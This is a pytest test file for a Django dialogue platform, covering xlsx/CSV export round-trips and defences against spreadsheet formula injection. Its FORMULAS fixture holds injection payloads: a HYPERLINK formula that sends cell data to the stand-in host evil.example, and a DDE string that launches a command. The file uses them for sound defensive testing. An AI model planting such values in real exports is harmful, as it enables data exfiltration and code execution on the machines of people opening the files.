"""Export to the workbook format: what is exported re-imports to the same dialogue."""

from pathlib import Path

import pytest
from django.core.management import call_command

from dialogues.models import Dialogue, Statement
from dialogues.tests.factories import WORKBOOK, write_csv_folder
from dialogues.tests.test_import_polis import POLIS

pytestmark = pytest.mark.django_db


def content(dialogue: Dialogue) -> dict:
    """Everything a dialogue holds, without database ids."""
    return {
        "dialogue": [
            getattr(dialogue, f)
            for f in (
                "title",
                "slug",
                "date",
                "commissioned_by",
                "method",
                "description",
                "participants",
                "messages",
                "reactions",
                "source_url",
                "counts_are_illustrative",
                "statements_with_level",
                "polarising_statements",
            )
        ],
        "questions": list(dialogue.questions.values_list("number", "section", "text")),
        "clusters": sorted(
            dialogue.questions.values_list(
                "number", "clusters__name", "clusters__rank", "clusters__explanation"
            ),
            key=str,
        ),
        "statements": sorted(
            (
                s.question.number if s.question else None,
                s.text,
                s.agree,
                s.disagree,
                s.passed,
                s.cluster.name if s.cluster else None,
                s.level,
                s.polarising,
                None if s.group_consensus is None else round(s.group_consensus, 12),
            )
            for s in Statement.objects.filter(dialogue=dialogue).select_related(
                "question", "cluster"
            )
        ),
        "polls": [
            (
                p.question.number if p.question else None,
                p.text,
                list(p.options.values_list("text", "votes")),
            )
            for p in dialogue.polls.order_by("position")
        ],
    }


@pytest.mark.parametrize("file_format", ["xlsx", "zip"])
@pytest.mark.parametrize("source", ["workbook", "polis"])
def test_an_export_re_imports_to_the_same_dialogue(client, tmp_path, source, file_format):
    if source == "workbook":
        path = write_csv_folder(tmp_path / "map", WORKBOOK)
    else:
        path = POLIS
    call_command("import_dialogue", str(path), format=source, publish=True, verbosity=0)
    dialogue = Dialogue.objects.get()
    before = content(dialogue)
    response = client.get(f"/dialogen/{dialogue.slug}/export.{file_format}")
    assert response.status_code == 200
    assert f'filename="{dialogue.slug}.{file_format}"' in response["Content-Disposition"]
    exported = Path(tmp_path / f"export.{file_format}")
    exported.write_bytes(response.content)
    call_command(
        "import_dialogue", str(exported), format="workbook", replace=True, publish=True, verbosity=0
    )
    assert content(Dialogue.objects.get()) == before


def test_a_hidden_dialogue_cannot_be_exported(client, closed_space, tmp_path):
    call_command(
        "import_dialogue",
        str(write_csv_folder(tmp_path / "map", WORKBOOK)),
        format="workbook",
        space=closed_space.slug,
        publish=True,
        verbosity=0,
    )
    slug = Dialogue.objects.get().slug
    assert client.get(f"/dialogen/{slug}/export.xlsx").status_code == 404
    assert client.get(f"/dialogen/{slug}/export.exe").status_code == 404


# --- text that looks like a formula ------------------------------------------------------------

FORMULAS = {
    "statement": '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")',
    "cluster": "+cmd|' /C calc'!A0",
    "poll": "@SUM(1+1)",
    "option": "-2+3",
    "question": "\t=1+1",
}


def dialogue_with_formulas(tmp_path) -> Dialogue:
    """A dialogue whose participants wrote text that a spreadsheet would run."""
    call_command(
        "import_dialogue",
        str(write_csv_folder(tmp_path / "map", WORKBOOK)),
        format="workbook",
        publish=True,
        verbosity=0,
    )
    dialogue = Dialogue.objects.get()
    statement = dialogue.statements.get(text="Bewoners weten wat er speelt.")
    statement.text = FORMULAS["statement"]
    statement.save()
    cluster = statement.cluster
    cluster.name = FORMULAS["cluster"]
    cluster.save()
    poll = dialogue.polls.get()
    poll.text = FORMULAS["poll"]
    poll.save()
    option = poll.options.first()
    option.text = FORMULAS["option"]
    option.save()
    question = dialogue.questions.get(number=2)
    question.text = FORMULAS["question"]
    question.save()
    return dialogue


def test_the_xlsx_export_holds_formula_like_text_as_text(client, tmp_path):
    import io

    from openpyxl import load_workbook

    dialogue = dialogue_with_formulas(tmp_path)
    response = client.get(f"/dialogen/{dialogue.slug}/export.xlsx")
    workbook = load_workbook(io.BytesIO(response.content))

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(FORMULAS.values()) <= texts  # each exactly as written, no quote added
    # And so they come back exactly on re-import (the importer strips the question's tab).
    exported = tmp_path / "export.xlsx"
    exported.write_bytes(response.content)
    call_command(
        "import_dialogue", str(exported), format="workbook", replace=True, publish=True, verbosity=0
    )
    dialogue = Dialogue.objects.get()
    assert dialogue.statements.filter(text=FORMULAS["statement"]).exists()
    assert dialogue.polls.get().text == FORMULAS["poll"]
    assert dialogue.questions.get(number=2).text == "=1+1"


def test_the_csv_export_puts_a_quote_before_formula_like_text(client, tmp_path):
    import csv
    import io
    import zipfile

    dialogue = dialogue_with_formulas(tmp_path)
    response = client.get(f"/dialogen/{dialogue.slug}/export.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    cells = {
        name: [cell for row in csv.reader(io.StringIO(archive.read(name).decode())) for cell in row]
        for name in archive.namelist()
    }

    everything = [cell for sheet in cells.values() for cell in sheet]
    assert [c for c in everything if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert "'" + FORMULAS["statement"] in cells["stellingen.csv"]
    assert cells["stellingen.csv"].count("'" + FORMULAS["cluster"]) == 1
    assert "'" + FORMULAS["cluster"] in cells["clusters.csv"]
    assert "'" + FORMULAS["poll"] in cells["polls.csv"]
    assert "'" + FORMULAS["option"] in cells["polls.csv"]
    assert "'" + FORMULAS["question"] in cells["vragen.csv"]
    # Ordinary text is as it was.
    assert "Beleid moet jaren meegaan." in cells["stellingen.csv"]
    assert "Lange adem" in cells["clusters.csv"]
    # The quote stays on re-import: the text comes back visibly marked, never as a formula.
    exported = tmp_path / "export.zip"
    exported.write_bytes(response.content)
    call_command(
        "import_dialogue", str(exported), format="workbook", replace=True, publish=True, verbosity=0
    )
    dialogue = Dialogue.objects.get()
    assert dialogue.statements.filter(text="'" + FORMULAS["statement"]).exists()
    assert dialogue.statements.filter(text="Beleid moet jaren meegaan.").exists()
